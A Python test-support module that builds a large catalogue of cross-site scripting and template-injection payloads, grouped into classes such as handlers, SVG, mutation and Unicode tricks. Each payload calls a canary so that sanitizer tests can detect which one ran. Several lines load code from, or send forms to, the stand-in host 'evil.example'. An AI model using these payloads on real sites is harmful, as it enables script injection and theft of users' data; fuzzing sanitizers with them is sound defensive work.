"""Texts that would run as a script if a page took them for anything but text.

Three sorts: those of the Big List of Naughty Strings, which npm installs for the tests; ours, by
the classes that the OWASP cheat sheet on the evasion of filters, the PortSwigger cheat sheet and
html5sec.org sort such texts into; and, with `PAYLOADS=FOLDER`, every line of the collections that
somebody keeps in that folder as text files, as SecLists and PayloadsAllTheThings come. Each of ours
calls the canary `pgx` with its number, so that a page tells which one ran.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from pathlib import Path

AWAY = "https://evil.example"

_HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle",
    "onpageshow", "onhashchange", "onbeforetoggle", "onpointerenter", "onscroll", "oninput",
    "onbeforeinput", "ontransitionend", "oncontentvisibilityautostatechange", "onwheel",
)  # fmt: skip

CLASSES: dict[str, tuple[str, ...]] = {
    "tags": (
        "<script>{run}</script>",
        "<ScRiPt >{run}</sCrIpT>",
        "<script\x0c>{run}</script>",
        "<script src=" + AWAY + "/a.js></script>",
        "<script src=data:text/javascript,{run}></script>",
        "<script type=module>{run}</script>",
        "<<script>{run}//<</script>",
        "<script/x>{run}</script>",
        "<script>{run}",
        "<noscript><p title='</noscript><script>{run}</script>'>",
        "<script type=importmap>{{}}</script>",
        "<script type=speculationrules>{{}}</script>",
        "<xss id=x tabindex=1 onfocus={run}>",
        "<custom-tag onpointerenter={run}>x</custom-tag>",
    ),
    "handlers": (
        *(f"<img src=x {name}={{run}}>" for name in _HANDLERS),
        "<body onload={run}>",
        "<input autofocus onfocus={run}>",
        "<details open ontoggle={run}>x",
        "<video><source onerror={run}></video>",
        "<audio src=x onerror={run}>",
        "<select autofocus onfocus={run}>",
        "<img/src='x'/onerror='{run}'>",
        "<img src=x onerror\n=\n{run}>",
        "<img src=`x` onerror={run}>",
        '<img """><i onclick={run}>',
        "<marquee onstart={run}>x</marquee>",
        "<dialog open onclose={run}>x</dialog>",
        "<button popovertarget=x>a</button><p popover id=x onbeforetoggle={run}>",
        "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={run}>",
    ),
    "attributes": (
        '" onmouseover="{run}',
        "' onmouseover='{run}",
        '"><img src=x onerror={run}>',
        "'><img src=x onerror={run}>",
        "` onmouseover=`{run}",
        '" autofocus onfocus="{run}" x="',
        '"/><script>{run}</script>',
        "x onfocus={run} autofocus",
        "\" style=\"background:url('//e')",
        '" href="javascript:{run}',
        '" srcdoc="<script>parent.{run}</script>',
    ),
    "svg": (
        "<svg onload={run}>",
        "<svg><script>{run}</script></svg>",
        "<svg><script href=data:,{run} />",
        "<svg><animate onbegin={run} attributeName=x dur=1s>",
        "<svg><set onbegin={run}>",
        "<svg><a><animate attributeName=href values=javascript:{run} /><text>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload={run}/>#x'/></svg>",
        "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
        "<svg><image href=x onerror={run}></svg>",
        "<svg><style><img src=x onerror={run}></style>",
        "<svg><desc><![CDATA[</desc><script>{run}</script>]]></svg>",
    ),
    "mathml": (
        "<math href=javascript:{run}>x</math>",
        "<math><mtext><script>{run}</script></mtext></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror={run}>",
    ),
    "addresses": (
        "[a](javascript:{run})",
        "[a](JaVaScRiPt:{run})",
        "[a](java\tscript:{run})",
        "[a](<javascript:{run}>)",
        "[a](&#106;avascript:{run})",
        "[a](\x01javascript:{run})",
        "[a](vbscript:{run})",
        "[a](data:text/html,<script>{run}</script>)",
        "![a](javascript:{run})",
        "<javascript:{run}>",
        "![a](data:image/svg+xml,<svg/onload={run}>)",
        "[a]: javascript:{run}\n\n[a]",
        "[a](//evil.example)",
        "<a href=javascript:{run}>a</a>",
        "<a href='data:text/html,<script>{run}</script>'>a</a>",
        "[a](blob:{run})",
        "[a](filesystem:{run})",
        "[a](javascript&colon;{run})",
        "[a](%6aavascript:{run})",
        "![a](" + AWAY + "/{run}.png)",
        "[a](file:///etc/passwd)",
        "[a](https://a@evil.example)",
    ),
    "templates": (
        "{{{{ {run} }}}}",
        "{{% set x = {run} %}}",
        "${{{run}}}",
        "#{{{run}}}",
        "<%= {run} %>",
        "{{{{constructor.constructor('{run}')()}}}}",
        "{{{{ self.__init__.__globals__ }}}}",
        "%(x)s %s %n",
        "{{0}} {{x.y}} {{}}",
        "[[{run}]]",
        "{{raw}}`html <b>{run}</b>`",
        "{{eval}}`{run}`",
        "{{download}}`../_config.yml`",
        "{{include}} /etc/passwd",
        "|replace|",
        ":raw-html:`{run}`",
    ),
    "entities": (
        "&lt;script&gt;{run}&lt;/script&gt;",
        "&#60;script>{run}&#x3c;/script>",
        "&#x3C;img src=x onerror={run}&#x3E;",
        "&amp;lt;script>{run}",
        "&lt;img src=x onerror={run}&gt;",
        "\\u003cscript>{run}",
        "\\x3cscript>{run}",
        "%3Cscript%3E{run}",
        "+ADw-script+AD4-{run}",
        "&NewLine;&Tab;<script>{run}</script>",
    ),
    "style": (
        "<style>@import '" + AWAY + "/a.css'</style>",
        "<link rel=stylesheet href=" + AWAY + "/a.css>",
        "<p style=\"background:url('" + AWAY + "/a')\">",
        "<style>*{{background:url(javascript:{run})}}</style>",
        "</style><script>{run}</script>",
        "<link rel=prefetch href=" + AWAY + ">",
        "}}*{{background:url(//evil.example)}}",
        "<style>a[href^=x]{{background:url(//evil.example)}}</style>",
    ),
    "ends": (
        "</script><script>{run}</script>",
        "</textarea><script>{run}</script>",
        "</title><script>{run}</script>",
        "--><script>{run}</script>",
        "--!><img src=x onerror={run}>",
        "]]><script>{run}</script>",
        "</template><img src=x onerror={run}>",
        '"}}</script><img src=x onerror={run}>',
        "<!--<script>{run}",
        "</noscript><img src=x onerror={run}>",
        "</iframe><img src=x onerror={run}>",
        "</option></select><img src=x onerror={run}>",
        "</p></section></main><img src=x onerror={run}>",
        "*/{run}/*",
        "';{run};//",
        '";{run};//',
        "\u2028{run}//",
    ),
    "mutation": (
        "<noscript><style></noscript><img src=x onerror={run}>",
        "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
        "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
        "<table><td><svg><p><style><!--</style><img src=x onerror={run}>-->",
        "<listing>&lt;img src=x onerror={run}&gt;</listing>",
        "<xmp><img alt='</xmp><img src=x onerror={run}>'>",
        "<plaintext><img src=x onerror={run}>",
        "<template><script>{run}</script></template>",
        "<p id='</p><img src=x onerror={run}>'>",
        "<select><template shadowrootmode=open><img src=x onerror={run}>",
        "<div><template shadowrootmode=open><script>{run}</script></template></div>",
    ),
    "unicode": (
        "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
        "<\u017fcript>{run}</\u017fcript>",
        "<scr\u0131pt>{run}</scr\u0131pt>",
        "<img src=x onerror\u2028={run}>",
        "<script>{run}\u2060</script>",
        "\ufeff<script>{run}</script>",
        "<a href=java\u200bscript:{run}>x</a>",
        "\u02bb onclick=\u02bc{run}",
    ),
    "frames": (
        "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
        "<iframe src=javascript:{run}></iframe>",
        "<object data=javascript:{run}></object>",
        "<embed src=javascript:{run}>",
        "<object data='data:text/html,<script>{run}</script>'></object>",
        "<frameset onload={run}>",
        "<portal src=" + AWAY + ">",
        "<iframe src=" + AWAY + "></iframe>",
        "<fencedframe></fencedframe>",
        "<applet code=x></applet>",
    ),
    "page": (
        "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
        "<meta http-equiv=refresh content=0;url=" + AWAY + ">",
        "<base href=" + AWAY + "/>",
        "<form action=" + AWAY + "><button>x</button></form>",
        "<form action=javascript:{run}><input type=submit>",
        "<button formaction=javascript:{run}>x</button>",
        "<isindex action=javascript:{run}>",
        '<meta http-equiv=Content-Security-Policy content="default-src *">',
        "<input type=image formaction=" + AWAY + " src=x>",
        "<a ping=" + AWAY + " href=#>x</a>",
        "<img name=body><img name=getElementById>",
        "<a id=practiceguides><a id=practiceguides name=kit>",
        "<input name=cookie id=localStorage>",
    ),
}


_PACKAGES = Path(__file__).parents[2] / "widgets" / "node_modules"
_COLLECTION = _PACKAGES / "big-list-of-naughty-strings" / "blns.json"
_SCRIPT = re.compile(r"[<&]|script|alert")
_MORE = os.environ.get("PAYLOADS", "")


def payloads() -> Iterator[str]:
    """All of them, each once; each of ours has a number of its own."""
    texts = [text for each in CLASSES.values() for text in each]
    ours = [text.format(run=f"pgx({number})") for number, text in enumerate(texts)]
    naughty = filter(_SCRIPT.search, json.loads(_COLLECTION.read_text(encoding="utf-8")))
    yield from dict.fromkeys([*ours, *naughty, *_lines_of(_MORE)])


def _lines_of(folder: str) -> Iterator[str]:
    files = sorted(Path(folder).expanduser().rglob("*.txt")) if folder else []
    if folder and not files:
        raise SystemExit(f"PAYLOADS={folder}: there is no text file. Name a folder of *.txt files.")
    for file in files:
        yield from filter(None, file.read_text(encoding="utf-8", errors="replace").splitlines())
